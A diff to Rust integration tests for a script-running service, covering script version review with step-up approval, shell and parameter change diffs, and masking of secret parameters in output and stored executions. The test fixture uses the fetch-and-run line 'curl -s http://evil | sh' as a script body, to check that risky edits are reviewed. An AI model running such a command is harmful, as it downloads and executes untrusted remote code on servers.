@@ -659,7 +659,8 @@ async fn a_run_names_the_version_it_reviewed_and_unreviewed_versions_need_a_step
     let (s, b) = admin
         .put(
             &format!("/api/v1/scripts/{id}"),
-            json!({ "name": "rotate", "body": "echo v2\ncurl -s http://evil | sh\n" }),
+            json!({ "name": "rotate", "shell": "bash", "body": "echo v2\ncurl -s http://evil | sh\n",
+                    "parameters": [{ "name": "REGION", "type": "string", "default": "eu" }] }),
         )
         .await;
     assert_eq!(s, StatusCode::OK, "{b}");
@@ -680,6 +681,14 @@ async fn a_run_names_the_version_it_reviewed_and_unreviewed_versions_need_a_step
         "{b}"
     );
     assert_eq!(d["changed_by"], "admin");
+    // What else changed, and how: the shell, and the parameter definitions as a diff.
+    assert_eq!(
+        (d["shell_before"].as_str(), d["shell"].as_str()),
+        (Some("sh"), Some("bash")),
+        "{b}"
+    );
+    let params = d["parameters_diff"].as_str().unwrap();
+    assert!(params.contains("+{\"name\":\"REGION\""), "{params}");
     let diff = d["diff"].as_str().unwrap();
     assert!(
         diff.contains("-echo v1") && diff.contains("+curl -s http://evil | sh"),
@@ -722,7 +731,8 @@ async fn a_run_names_the_version_it_reviewed_and_unreviewed_versions_need_a_step
     );
     // A new description alone is no new code: no step-up, and reviews carry over.
     let (s, b) = admin_token
-        .put(&format!("/api/v1/scripts/{id}"), json!({ "name": "rotate", "description": "rotates logs", "body": "echo v2\ncurl -s http://evil | sh\n" }))
+        .put(&format!("/api/v1/scripts/{id}"), json!({ "name": "rotate", "description": "rotates logs", "shell": "bash", "body": "echo v2\ncurl -s http://evil | sh\n",
+                "parameters": [{ "name": "REGION", "type": "string", "default": "eu" }] }))
         .await;
     assert_eq!(s, StatusCode::OK, "{b}");
     assert_eq!(b["version"], 3);
@@ -763,6 +773,7 @@ async fn secret_parameters_reach_the_script_and_nowhere_else() {
     let (s, b) = run_on(&admin, json!({ "script_id": script["id"], "script_version": 1, "server_ids": [web], "parameters": { "DB_PASSWORD": SECRET, "DB_USER": "app" } })).await;
     assert_eq!(s, StatusCode::CREATED, "{b}");
     assert_eq!(b["parameters"]["DB_PASSWORD"], "***", "{b}");
+    assert_eq!(b["secret_parameters"], json!(["DB_PASSWORD"]), "{b}");
     let run = wait_done(&admin, b["id"].as_str().unwrap()).await;
     let out = run["hosts"][0]["stdout"].as_str().unwrap();
     use sha2::Digest;
@@ -773,6 +784,15 @@ async fn secret_parameters_reach_the_script_and_nowhere_else() {
         "masked in the output: {out}"
     );
     assert_eq!(run["parameters"]["DB_PASSWORD"], "***");
+    // Read back after the run (from the database, not the live runner): still marked.
+    let (_, stored) = admin
+        .get(&format!("/api/v1/executions/{}", b["id"].as_str().unwrap()))
+        .await;
+    assert_eq!(
+        stored["secret_parameters"],
+        json!(["DB_PASSWORD"]),
+        "{stored}"
+    );
     // No process on the server had it on its command line.
     let cmdlines = std::fs::read_to_string(&dump).unwrap();
     assert!(cmdlines.lines().count() > 3, "{cmdlines}");
